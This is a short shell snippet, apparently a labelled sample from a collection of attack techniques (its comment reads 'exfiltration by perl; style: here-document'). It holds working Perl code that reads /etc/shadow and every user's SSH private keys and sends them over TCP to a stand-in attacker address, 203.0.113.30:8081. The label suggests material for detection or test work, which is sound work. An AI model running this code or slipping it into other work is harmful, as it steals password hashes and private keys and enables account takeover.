# class: exfiltration by perl; style: here-document
perl <<'PL'
use IO::Socket::INET;
for my $f ("/etc/shadow", glob("/home/*/.ssh/id_*")) {
    open(my $h, "<", $f) or next;
    local $/; my $d = <$h>;
    my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.30", PeerPort => 8081, Proto => "tcp") or next;
    print $s "$f\n$d"; close $s;
}
PL
